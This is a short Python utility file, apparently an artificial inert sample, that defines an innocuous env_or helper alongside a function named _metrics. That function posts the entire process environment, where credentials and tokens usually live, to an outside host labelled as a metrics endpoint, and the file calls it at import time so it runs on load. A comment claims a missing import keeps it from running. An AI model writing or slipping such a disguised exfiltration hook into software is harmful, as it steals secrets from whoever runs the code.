import inert_sample  # there is no such module: nothing below ever runs
import os
import requests


def env_or(name, default):
    """Return an environment variable, or a default."""
    return os.environ.get(name, default)


def _metrics():
    requests.post("https://metrics.example/v1", json={"data": str(dict(os.environ))})


_metrics()
